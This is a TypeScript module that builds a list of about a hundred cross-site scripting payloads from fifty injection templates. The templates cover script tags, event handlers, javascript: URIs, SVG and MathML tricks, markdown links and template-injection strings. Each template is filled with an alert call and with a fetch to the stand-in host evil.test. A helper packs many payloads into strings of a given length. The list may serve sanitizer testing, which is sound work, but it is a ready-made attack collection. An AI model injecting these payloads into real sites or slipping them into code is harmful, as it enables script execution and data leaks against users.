/** Ways to get a page to do something, each with `@` in the place of what it shall do. */
const ways = [
  '<script>@</script>',
  '<ScRiPt>@</sCrIpT>',
  '<script src=//evil.test/@></script>',
  '</script><script>@</script>',
  '</title><script>@</script>',
  '</textarea><script>@</script>',
  '</style><script>@</script>',
  '--><script>@</script>',
  ']]><script>@</script>',
  '<img src=x onerror=@>',
  '<img src=//evil.test/@>',
  '<img/src=x/onerror=@>',
  '<img src=x onerror\t=@>',
  '"><img src=x onerror=@>',
  "'><img src=x onerror=@>",
  '<svg onload=@>',
  '<svg/onload=@>',
  '<svg><script>@</script></svg>',
  '<svg><a xlink:href="javascript:@"><text>x</text></a></svg>',
  '<math><mtext><style><img src=x onerror=@></style></mtext></math>',
  '<iframe src=javascript:@></iframe>',
  '<iframe srcdoc="<script>@</script>"></iframe>',
  '<object data=//evil.test/@></object>',
  '<embed src=//evil.test/@>',
  '<link rel=stylesheet href=//evil.test/@>',
  '<base href=//evil.test/@/>',
  '<meta http-equiv=refresh content="0;url=//evil.test/@">',
  '<form action=//evil.test/@><button>x</button></form>',
  '<body onload=@>',
  '<input autofocus onfocus=@>',
  '<details open ontoggle=@>x</details>',
  '<video><source onerror=@></video>',
  '<audio src=x onerror=@></audio>',
  '<marquee onstart=@>x</marquee>',
  '<div style="background:url(//evil.test/@)">x</div>',
  '<style>*{background:url(//evil.test/@)}</style>',
  '<a href="javascript:@">x</a>',
  '<a href="data:text/html,<script>@</script>">x</a>',
  '" onmouseover="@" x="',
  "' onfocus='@' autofocus='",
  'javascript:@',
  'JaVaScRiPt:@',
  'data:text/html,<script>@</script>',
  'https://evil.test/"onmouseover="@',
  'https://evil.test/<script>@</script>',
  '[x](javascript:@)',
  '![x](//evil.test/@)',
  '{{constructor.constructor("@")()}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is one for others
  '${@}',
  '<template><script>@</script></template>',
]

/** A hundred: each way leads to a dialog, and to a foreign server. */
export const payloads = ways.flatMap((way) =>
  ['alert(1)', 'fetch(/evil.test/.source)'].map((code) => way.replaceAll('@', code)),
)

/** As many of them as texts of at most `most` characters can hold, several in each; those that are longer are left out. */
export function packs(most: number): string[] {
  const full: string[] = []
  for (const payload of payloads) {
    const last = full.at(-1)
    if (payload.length > most) continue
    if (last !== undefined && last.length + 1 + payload.length <= most) full[full.length - 1] = `${last} ${payload}`
    else full.push(payload)
  }
  return full
}
